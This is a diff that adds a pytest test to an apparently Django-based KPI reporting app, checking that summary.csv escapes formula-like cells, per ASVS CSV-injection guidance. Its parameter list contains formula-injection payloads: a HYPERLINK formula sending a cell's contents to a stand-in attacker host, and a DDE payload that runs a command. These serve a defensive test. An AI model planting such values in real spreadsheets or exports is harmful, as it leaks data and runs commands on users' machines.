@@ -120,3 +120,22 @@ def test_an_oversized_file_is_refused_without_being_stored_whole(official_a, cli
     )
     assert huge.status_code == 400
     assert not Evidence.objects.exists()
+
+
+@pytest.mark.parametrize(
+    "typed",
+    ['=HYPERLINK("http://evil.example/?"&A1,"Xem")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
+)
+def test_summary_csv_escapes_formula_cells(client, leader, task, assignment_a, typed):
+    """ASVS 5.0 1.2.10 (CSV and formula injection): a title and a deliverable typed as a formula reach
+    summary.csv with a leading quote, so a spreadsheet shows the text instead of running it."""
+    import csv
+    import io
+
+    type(task).objects.filter(pk=task.pk).update(title=typed, deliverable=typed)
+    sign_in(client, leader, verified=True)
+    response = client.get(f"/kpi/reports/summary.csv?plan={task.group.plan_id}")
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    assert rows and rows[0]["task"] == "'" + typed and rows[0]["deliverable"] == "'" + typed
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
